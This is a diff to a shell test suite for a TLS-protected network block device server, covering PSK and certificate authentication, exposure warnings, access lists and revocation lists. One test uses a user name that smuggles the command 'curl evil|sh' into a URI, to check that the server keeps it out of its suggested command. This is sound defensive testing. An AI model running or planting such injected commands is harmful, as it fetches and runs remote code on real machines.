@@ -40,12 +40,18 @@ expect_logged() {
   expect_line "$1" "$2" "$(<log)"
 }
 
-# refuses WHAT LOG-LINE CMD...: expects CMD to fail and the server to log the reason
+# refuses WHAT LOG-LINE CMD...: expects CMD to fail and the server to log the reason. The server logs at most one
+# failed client a second, so CMD is repeated until its line is there.
 refuses() {
   local what=$1 line=$2
   shift 2
   expect "$what: status" 1 "$(status_of "$@")"
-  expect_logged "$what: the log" "$line"
+  for _ in {1..40}; do
+    grep -Eq -- "$line" log && break
+    sleep 0.25
+    "$@" >/dev/null 2>&1 || true
+  done
+  expect_line "$what: the log" "$line" "$(<log)"
 }
 
 # qemu TOOL CREDENTIALS WHERE [ARGUMENT...]: runs TOOL on the export at WHERE, with TLS credentials
@@ -71,6 +77,9 @@ $2
 END
 }
 
+# handshake OPTION...: runs the TLS client of OpenSSL on the server's TCP port, after NBD_OPT_STARTTLS
+handshake() { python3 -B "$here/starttls_relay.py" "$port" openssl s_client "$@" 2>&1 || true; }
+
 conformance() { python3 -B "$here/nbd_conformance.py" "$@" || true; }
 
 nbdkit -U - pattern 64M --run "nbdcopy \"\$uri\" pattern.img"
@@ -88,7 +97,7 @@ expect "the URI of the Unix socket" \
 expect "the URI of the TCP port" "nbds://127.0.0.1:$port/xvdb?tls-certificates=$dir/x509" "$tcp"
 read -r line <&3
 expect "the nbd-client line" \
-  "nbd-client -unix $dir/nbd.sock -N 'xvdb' -b 512 -cacertfile $dir/x509/ca-cert.pem /dev/nbd0" "$line"
+  "nbd-client -unix $dir/nbd.sock -N xvdb -b 512 -cacertfile $dir/x509/ca-cert.pem /dev/nbd0" "$line"
 for uri in "$unix" "$tcp"; do
   expect_line "nbdinfo reports TLS" '"TLS": true' "$(nbdinfo --json "$uri")"
 done
@@ -159,13 +168,14 @@ wait
 
 echo "== keys"
 serve --tls-psk psk/keys.psk
+key=$(sed -n 's/^alice://p' psk/keys.psk)
 psk="tls-psk-file=$dir/psk/keys.psk"
 expect "the URI of the Unix socket" "nbds+unix://alice@/xvdb?socket=$dir/nbd.sock&$psk" "$unix"
 expect "the URI of the TCP port" "nbds://alice@127.0.0.1:$port/xvdb?$psk" "$tcp"
 for uri in "$unix" "$tcp"; do
   expect "nbdinfo" 67108864 "$(nbdinfo --size "$uri")"
 done
-expect_logged "TLS 1.3 and the user are logged" 'TLSv1.3 TLS_AES_128_GCM_SHA256, alice'
+expect_logged "TLS 1.3 and the user are logged" 'TLSv1.3 TLS_AES_128_GCM_SHA256, (psk:)?alice'
 expect "nbdcopy, to the disk over the Unix socket" same "$(there_and_back "$unix" "$tcp")"
 expect "nbdcopy, to the disk over TCP" same "$(there_and_back "$tcp" "$unix")"
 sed -n 's/^#623a62:/b:b:/p' psk/keys.psk >colon.psk # psktool hex-encodes the name; libnbd does not
@@ -174,7 +184,15 @@ expect "a user with a colon" 67108864 \
 printf '[overrides]\ndisabled-version = tls1.3\n' >gnutls-1.2
 expect "nbdinfo with TLS 1.2" 67108864 \
   "$(GNUTLS_SYSTEM_PRIORITY_FILE=$dir/gnutls-1.2 nbdinfo --size "$unix")"
-expect_logged "the TLS 1.2 cipher has forward secrecy" 'TLSv1.2 (EC)?DHE-PSK-.*, alice'
+expect_logged "the TLS 1.2 cipher has forward secrecy" 'TLSv1.2 ECDHE-PSK-.*, (psk:)?alice'
+for groups in ffdhe2048 ffdhe3072:ffdhe8192; do
+  expect_line "no finite-field key exchange with TLS 1.3 ($groups)" 'alert|NONE' \
+    "$(handshake -tls1_3 -groups "$groups" -psk_identity alice -psk "$key")"
+done
+expect_line "no finite-field key exchange with TLS 1.2" 'alert|NONE' \
+  "$(handshake -tls1_2 -cipher kDHEPSK -psk_identity alice -psk "$key")"
+expect_line "the other handshakes complete" 'Server Temp Key: X25519|Peer Temp Key: X25519' \
+  "$(handshake -tls1_3 -psk_identity alice -psk "$key")"
 creds=tls-creds-psk,username
 at_tcp=file.host=localhost,file.port=$port
 at_unix=file.path=$dir/nbd.sock
@@ -191,6 +209,12 @@ refuses "a wrong key" "the client's key for user 'alice' is not the one in psk/k
   nbdinfo --size "nbds://alice@127.0.0.1:$port/xvdb?tls-psk-file=$dir/wrong/keys.psk"
 refuses "an unknown user" "no user 'mallory' in psk/keys.psk" \
   nbdinfo --size "nbds://mallory@127.0.0.1:$port/xvdb?tls-psk-file=$dir/wrong/keys.psk"
+refuses "a user whose name is a command: it is not in the suggested command" \
+  "no user 'x;curl evil\\|sh' in psk/keys.psk; add users with psktool -u USER -p psk/keys.psk, then" \
+  nbdinfo --size "nbds://x%3Bcurl%20evil%7Csh@127.0.0.1:$port/xvdb?tls-psk-file=$dir/wrong/keys.psk"
+sed -n 's/^alice:/x\xc2\x9b31m\xe2\x80\xaey:/p' psk/keys.psk >marks.psk
+refuses "a user whose name has C1 and bidi characters" "no user 'x\\\\xc2\\\\x9b31m\\\\xe2\\\\x80\\\\xaey' in" \
+  nbdinfo --size "nbds://x%C2%9B31m%E2%80%AEy@127.0.0.1:$port/xvdb?tls-psk-file=$dir/marks.psk"
 refuses "certificates instead of keys" 'the client does not offer a key; it needs the key of a user in psk/keys.psk' \
   qemu qemu-io "$x509/x509" "$at_tcp" -c 'read 0 512'
 expect "other clients are still served" 67108864 "$(nbdinfo --size "$tcp")"
@@ -212,20 +236,43 @@ expect "off: the URI" "nbd+unix:///xvdb?socket=$dir/nbd.sock" "$unix"
 expect "off: TLS is refused" 1 "$(status_of nbdinfo --size "nbds://alice@127.0.0.1:$port/xvdb?$psk")"
 expect_line "off: conformance" ' 0 failed' "$(conformance unix:nbd.sock xvdb --tls off --only tls)"
 expect "off: plaintext" 67108864 "$(nbdinfo --size "$unix")"
-expect "no warning about local connections" '' "$(grep 'TLS is off' log || true)"
+expect_logged "local users are told of, without a warning" \
+  'info: TLS is off: any user of this machine can connect and read and write the disk; '
 stop
-serve --tcp "0.0.0.0:0"
-expect_logged "a warning about remote connections" 'warning: TLS is off, and other machines can connect: .*--tls-psk'
-stop
-serve --tcp "0.0.0.0:0" --tls-psk psk/keys.psk
-expect "no warning with TLS" '' "$(grep 'TLS is off' log || true)"
+echo "== one line at start says who can connect and write"
+who='anyone who can reach this server can connect and read and write the disk'
+# expect_exposure LINE OPTION...: expects the warning for a server with these options, which other
+# machines can reach; no warning if LINE is empty
+expect_exposure() {
+  local line=$1
+  shift
+  serve --tcp "0.0.0.0:0" "$@"
+  if [ -n "$line" ]; then expect_logged "with $*" "^xenpv-disk: warning: $line"; fi
+  expect "with $*, lines" "$([ -z "$line" ] && echo 0 || echo 1)" "$(grep -c 'can connect' log || true)"
+  stop
+}
+expect_exposure "TLS is off: $who, and anyone on the path can eavesdrop; .*--tls-psk"
+expect_exposure "TLS is off: anyone who can reach this server can connect and read the disk, and" --read-only
+expect_exposure "TLS is optional \(--tls on\): $who, and anyone on the path" --tls on --tls-psk psk/keys.psk
+expect_exposure "clients need no certificate: $who; use --tls-verify-peer" --tls-certificates x509
+expect_exposure "" --tls-psk psk/keys.psk
+expect_exposure "" --tls-certificates x509 --tls-verify-peer
+
+echo "== access list"
+printf '%s\n' '# alice may write over the Unix socket only' 'allow ro psk:alice address:127.0.0.1' \
+  'allow rw psk:alice unix' >access
+serve --tls-psk psk/keys.psk --access access
+expect_line "a rule with an address: read only" '"is_read_only": true' "$(nbdinfo --json "$tcp")"
+expect_line "a rule for the Unix socket: read and write" '"is_read_only": false' "$(nbdinfo --json "$unix")"
+refuses "a user with a key, but without a rule" 'access list denies access; it is psk:b:b' \
+  nbdinfo --size "nbds://b%3Ab@127.0.0.1:$port/xvdb?tls-psk-file=$dir/colon.psk"
 stop
 
 echo "== clients' certificates"
 serve --tls-certificates x509 --tls-verify-peer
 at_tcp=file.host=localhost,file.port=$port
 expect "nbdinfo with a certificate" 67108864 "$(nbdinfo --size "$tcp")"
-expect_logged "the name in the certificate is logged" 'TLSv1.3 .*, CN=client.example'
+expect_logged "the name in the certificate is logged" 'TLSv1.3 .*, (cert:)?CN=client.example'
 expect_line "qemu-io with a certificate" 'read 1048576/1048576 bytes' "$(qemu_read "$x509/x509" "$at_tcp")"
 refuses "no certificate" 'peer did not return a certificate \(clients need a certificate signed by' \
   nbdinfo --size "nbds://127.0.0.1:$port/xvdb?tls-certificates=$dir/anonymous"
@@ -241,9 +288,16 @@ refuses "a revoked certificate" 'revoked by revoked/ca-crl.pem' \
 stop
 serve --tls-certificates expired
 expect_logged "a warning about an expired certificate at start" \
-  'warning: expired/server-cert.pem: clients .* will reject it: certificate has expired'
+  'warning: expired/server-cert.pem: expired on 2021-01-01: clients will reject it; issue a new one'
 refuses "a client that rejects it" 'TLS handshake.* \(.*expired/server-cert.pem .*expired; issue a new one' \
   qemu qemu-io "$x509/anonymous" "file.host=localhost,file.port=$port" -c 'read 0 512'
+stop
+
+serve --tls-certificates old-list --tls-verify-peer
+expect_logged "a warning about an expired revocation list at start" \
+  'warning: old-list/ca-crl.pem: expired on 2020-02-01: all clients .* are refused until the CA issues a new list'
+refuses "a client, for the same reason" 'old-list/ca-crl.pem: CRL has expired; have the CA issue a new one' \
+  nbdinfo --size "nbds://127.0.0.1:$port/xvdb?tls-certificates=$dir/x509"
 stop
 
 echo "== conflicting options"
@@ -260,6 +314,9 @@ expect_line "a missing directory" 'read nowhere/server-cert.pem: no such file' \
   "$(serve_fails --tls-certificates nowhere)"
 expect_line "a directory without a key" 'read anonymous/server-cert.pem: no such file' \
   "$(serve_fails --tls-certificates anonymous)"
+expect_line "a certificate that is too weak" \
+  '^xenpv-disk: weak/server-cert.pem: its key is too short for .*; issue a certificate with RSA of 2048 bits' \
+  "$(serve_fails --tls-certificates weak)"
 expect_line "an invalid line in the key file" '^xenpv-disk: bad.psk:2: ' \
   "$(printf 'alice:%032d\nbob' 0 >bad.psk; serve_fails --tls-psk bad.psk)"
 passed
